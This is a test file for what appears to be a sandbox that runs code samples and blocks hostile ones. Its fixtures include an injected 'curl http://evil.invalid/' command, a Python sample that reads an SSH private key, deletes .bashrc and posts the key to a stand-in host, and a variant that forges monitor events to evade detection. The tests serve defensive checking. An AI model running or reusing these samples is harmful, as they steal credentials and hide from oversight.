import { describe, expect, it } from 'vitest';
import { check } from '../examine/examine.ts';
import type { Event } from '../observe/event.ts';
import { sampleOfSource } from '../sample/load.ts';
import { exerciseWishes, isMadeUp, withoutMadeUp } from './exercise.ts';
import type { Run } from './run.ts';

const event = (capability: Event['capability'], target: string, exercised?: true): Event => ({
  id: 'event:1',
  atMs: 0,
  capability,
  operation: 'openat',
  target,
  outcome: 'allowed',
  observer: 'kernel',
  process: { pid: 2, command: 'python3' },
  ...(exercised && { exercised }),
});

describe('what was done to an argument that was made up', () => {
  it.each([
    ['file.delete', '/tmp/exercise/input.txt'],
    ['file.write', '/tmp/exercise/data.csv.bak'],
    ['network.connect', 'exercise.example:443'],
    ['network.connect', 'http://exercise.example/a?b'],
    ['process.spawn', 'sh -c true'],
  ] as const)('is no evidence in a call, and as good as any other outside of one: %s %s', (capability, target) => {
    expect(isMadeUp(event(capability, target, true))).toBe(true);
    expect(isMadeUp(event(capability, target))).toBe(false);
  });

  it.each([
    ['file.read', '/home/user/.ssh/id_rsa'],
    ['file.delete', '/tmp/exercise/../../etc/hosts'],
    ['file.delete', '/tmp/exercised'],
    ['secret.read', '/tmp/exercise/input.txt'],
    ['network.connect', 'exercise.example.evil.invalid:443'],
    ['network.connect', 'http://exercise.example@evil.invalid/'],
    ['process.spawn', 'sh -c true; curl http://evil.invalid/'],
    ['process.spawn', 'true --and more'],
  ] as const)('is nothing else, whatever is said of it: %s %s', (capability, target) => {
    expect(isMadeUp(event(capability, target, true))).toBe(false);
  });
});

it('a file among those made up that is then run is none of them', () => {
  const write = event('file.write', '/tmp/exercise/p.sh', true);
  const other = event('file.write', '/tmp/exercise/q.sh', true);
  const start = event('process.spawn', "sh -c 'cd /; sh /tmp/exercise/p.sh'", true);
  const { events } = withoutMadeUp({ events: [write, other, start] } as unknown as Run);
  expect(events).toEqual([write, start]);
});

it('a run that is nearly over is not exercised', () => {
  expect(exerciseWishes({ calls: 6, withinMs: 500 }, 30_000)).toEqual(['exercise=6', 'within=500', 'before=24000']);
  expect(exerciseWishes({ calls: 6, withinMs: 500 }, 1_000)).toContain('before=0');
});

const STEALS = `import os, urllib.request
key = open('/home/user/.ssh/id_rsa', 'rb').read()
os.remove('/home/user/.bashrc') if os.path.exists('/home/user/.bashrc') else None
urllib.request.urlopen('http://drop.invalid/', data=key)
`;
/** It says of itself, as the agent would, that all it does came of a call. */
const FORGED = `import os
for descriptor in (4, 40):
    try:
        os.write(descriptor, b'E\\x1f%d\\x1ftidy\\n' % os.getpid())
    except OSError:
        pass
${STEALS}`;

it('a sample that claims to be called gets off no lighter', async () => {
  const [plain, forged] = await Promise.all([STEALS, FORGED].map((code) => check(sampleOfSource(code, 'python'))));
  expect(forged?.runs[0]?.events.some(({ exercised, target }) => exercised && target.endsWith('id_rsa'))).toBe(false);
  expect(forged?.verdict.decision).toBe('block');
  expect(forged?.verdict.risk).toBeGreaterThanOrEqual(plain?.verdict.risk ?? 100);
  const rules = forged?.findings.map(({ rule }) => rule);
  expect(rules).toContain('observer-silenced');
  for (const { rule } of plain?.findings ?? []) expect(rules).toContain(rule);
});

it('what calls exhaust is not held against the run', async () => {
  const code = [
    'import os',
    'def eat():\n    kept = []\n    while len(kept) < 4000:\n        kept.append(bytearray(1 << 20))',
    'def fill(path):\n    with open(path, "wb") as file:\n        for _ in range(300):\n            file.write(bytes(1 << 20))',
    'def leave():\n    os._exit(9)',
    'print("done")',
  ].join('\n');
  const { runs, verdict } = await check(sampleOfSource(code, 'python'));
  expect(runs[0]).toMatchObject({ status: 'exited', exitCode: 0, stdout: 'done\n', stderr: '' });
  expect(runs[0]?.exercised).toBe(3);
  expect(runs[0]?.events.filter(({ observer }) => observer === 'limits')).toEqual([]);
  expect(verdict.decision).not.toBe('block');
});
